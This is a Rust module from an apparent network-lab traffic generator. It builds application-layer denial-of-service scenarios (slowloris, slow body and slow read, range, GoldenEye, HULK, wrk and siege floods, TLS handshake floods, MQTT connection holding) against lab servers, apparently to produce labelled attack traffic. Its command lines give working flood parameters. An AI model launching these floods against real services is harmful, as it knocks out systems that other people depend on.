//! Denial of service by use: slow requests, floods of requests, handshakes without end.

use super::{MS_MAX, Needs, PlanFn, attacker};
use crate::lab::{
    filter::Filter,
    plan::{Ends, Plan, Proof, Ready, Scenario, Service, Step, Wish},
    rng::Rng,
    servers::{self, PYTHON},
    world::{Shape, World},
};

const SLOW: Needs = &[("slowhttptest", "slowhttptest"), ("nginx", "nginx-light"), ("lighttpd", "lighttpd")];
const FAST: Needs = &[
    ("goldeneye", "goldeneye"),
    ("siege", "siege"),
    ("wrk", "wrk"),
    ("nginx", "nginx-light"),
    ("lighttpd", "lighttpd"),
];
const MQTT: Needs = &[("mosquitto", "mosquitto")];

pub(super) static SCENARIOS: &[Scenario] = &[
    scenario("dos-slowloris", "slowhttptest -H, script: headers without end", SLOW, slowloris),
    scenario("dos-slow-body", "slowhttptest -B, script: bodies without end", SLOW, slow_body),
    scenario("dos-slow-read", "slowhttptest -X, script: answers read by the byte", SLOW, slow_read),
    scenario("dos-range", "slowhttptest -R: overlapping ranges", SLOW, range),
    scenario("dos-goldeneye", "GoldenEye", FAST, goldeneye),
    scenario("dos-hulk", "script after HULK: every request unlike the last", FAST, hulk),
    scenario("dos-requests", "wrk, siege: requests as fast as they are answered", FAST, requests),
    scenario("dos-tls", "script: TLS handshakes without end", SLOW, tls),
    scenario("dos-mqtt", "script: MQTT connections that are held, with long keep-alives", MQTT, mqtt),
];

const fn scenario(name: &'static str, tools: &'static str, needs: Needs, plan: PlanFn) -> Scenario {
    Scenario { name, family: "DOS_APP", tools, needs, shape: Shape::SMALL, plan }
}

/// A web server; gives its software and port.
fn web(plan: &mut Plan, world: &World, rng: &mut Rng) -> u16 {
    let on = &world.servers[0].name;
    let port = rng.pick(&[80, 80, 8_080]);
    let software = match rng.range(1, 4) {
        1 => {
            servers::nginx(plan, on, port, world, rng);
            "nginx"
        }
        2 => {
            servers::lighttpd(plan, on, port, rng);
            "lighttpd"
        }
        3 => {
            servers::application(plan, on, port, world, rng);
            "app"
        }
        _ => {
            servers::python_http(plan, on, port, rng);
            "python"
        }
    };
    plan.environment = format!("{}-{software}", plan.environment);
    port
}

fn attack(plan: &mut Plan, world: &World, rng: &mut Rng, tool: &str, line: &str, flows: usize) {
    tool.clone_into(&mut plan.subtype);
    let from = attacker(world, rng);
    plan.steps.push(Step::new(&from.name, line, rng.range(2_000, 7_000), MS_MAX, Ends::Anyhow));
    plan.filter = Filter::from_hosts(from.all_v4());
    plan.proof = Proof { flows, sent: flows, answered: flows };
}

/// slowhttptest, or the lab's script, in one of the slow modes.
fn slow(world: &World, rng: &mut Rng, environment: &str, test: &str, mode: &str, rest: &str) -> Plan {
    let mut plan = Plan::new(environment, "");
    let port = web(&mut plan, world, rng);
    let target = world.servers[0].v4;
    let connections = rng.pick(&[40, 100, 250]);
    let rate = rng.pick(&[10, 30, 80]);
    let (secs, pause) = (rng.range(25, 50), rng.pick(&[3, 6, 10]));
    let (tool, line) = if rng.once_in(2) {
        let url = format!("http://{target}:{port}/");
        (
            format!("slowhttptest {test}"),
            format!("slowhttptest {test} -c {connections} -r {rate} -i {pause} -l {secs} -p 5 {rest} -u {url}"),
        )
    } else {
        let seed = rng.range(1, 99_999);
        (
            format!("script {mode}"),
            format!(
                "{PYTHON} {{lab}}/slow_http.py --mode {mode} --host {target} --port {port} --connections {connections} --rate {rate} --pause {pause} --secs {secs} --seed {seed}"
            ),
        )
    };
    let tool_name = tool.split(' ').next().unwrap_or_default().to_owned();
    plan.environment = format!("{}-{tool_name}", plan.environment);
    attack(&mut plan, world, rng, &tool, &line, 20);
    plan
}

fn slowloris(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    slow(world, rng, "slow-headers", "-H", "headers", "-x 24")
}

fn slow_body(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    slow(world, rng, "slow-body", "-B", "body", "-s 8192 -x 10")
}

fn slow_read(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    slow(world, rng, "slow-read", "-X", "read", "-w 512 -y 1024 -n 5 -z 32 -k 3")
}

fn range(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("dos-range", "");
    let port = web(&mut plan, world, rng);
    let line = format!(
        "slowhttptest -R -t HEAD -c {} -r {} -l 20 -a 10 -b 3000 -u http://{}:{port}/index.html",
        rng.pick(&[60, 200]),
        rng.pick(&[20, 60]),
        world.servers[0].v4
    );
    attack(&mut plan, world, rng, "slowhttptest -R", &line, 20);
    plan
}

fn goldeneye(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("dos-goldeneye", "");
    let port = web(&mut plan, world, rng);
    let line = format!(
        "sh {{lab}}/goldeneye.sh {} http://{}:{port}/ -w {} -s {} -m {}",
        rng.range(12, 25),
        world.servers[0].v4,
        rng.pick(&[1, 2, 3]),
        rng.pick(&[5, 15, 30]),
        rng.pick(&["get", "post", "random"])
    );
    attack(&mut plan, world, rng, "GoldenEye", &line, 10);
    plan
}

fn hulk(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("dos-hulk", "");
    let port = web(&mut plan, world, rng);
    let line = format!(
        "{PYTHON} {{lab}}/hulk.py --host {} --port {port} --threads {} --rate {} --secs {} --seed {}",
        world.servers[0].v4,
        rng.pick(&[4, 10, 30]),
        rng.pick(&[40, 120, 300]),
        rng.range(12, 25),
        rng.range(1, 99_999)
    );
    attack(&mut plan, world, rng, "script HULK", &line, 50);
    plan
}

fn requests(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("dos-requests", "");
    let port = web(&mut plan, world, rng);
    let url = format!("http://{}:{port}/", world.servers[0].v4);
    let secs = rng.range(6, 12);
    let (tool, line) = if rng.once_in(2) {
        // A connection for every request; wrk has no rate of its own, so the server's sets it.
        ("wrk", format!("wrk -t 1 -c {} -d {secs}s -H Connection:close {url}", rng.pick(&[5, 20, 60])))
    } else {
        ("siege", format!("siege -q -b -c {} -t {secs}S {url}", rng.pick(&[5, 15, 40])))
    };
    plan.environment = format!("{}-{tool}", plan.environment);
    attack(&mut plan, world, rng, tool, &line, 5);
    plan
}

fn tls(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("dos-tls", "");
    let on = world.servers[0].name.clone();
    servers::certificate(&mut plan, &on, world);
    let port = rng.pick(&[443, 8_443]);
    let line = format!("openssl s_server -quiet -www -accept {port} -key {{dir}}/tls.key -cert {{dir}}/tls.crt");
    plan.services.push(Service::new(&on, &line, Ready::Tcp(port)));
    let line = format!(
        "{PYTHON} {{lab}}/tls_flood.py --host {} --port {port} --threads {} --rate {} --secs {}",
        world.servers[0].v4,
        rng.pick(&[2, 6, 12]),
        rng.pick(&[10, 30, 80]),
        rng.range(12, 25)
    );
    attack(&mut plan, world, rng, "script TLS handshakes", &line, 50);
    plan
}

fn mqtt(world: &World, rng: &mut Rng, _: &Wish) -> Plan {
    let mut plan = Plan::new("dos-mqtt", "");
    servers::mosquitto(&mut plan, &world.servers[0].name, 1_883, world);
    let account = &world.accounts[1];
    let line = format!(
        "{PYTHON} {{lab}}/slow_http.py --mode mqtt --host {} --port 1883 --connections {} --rate {} --pause 10 --secs {} --seed {} --user {} --word {}",
        world.servers[0].v4,
        rng.pick(&[80, 200, 400]),
        rng.pick(&[15, 50]),
        rng.range(20, 40),
        rng.range(1, 99_999),
        account.user,
        account.password
    );
    attack(&mut plan, world, rng, "script SlowITe", &line, 40);
    plan
}
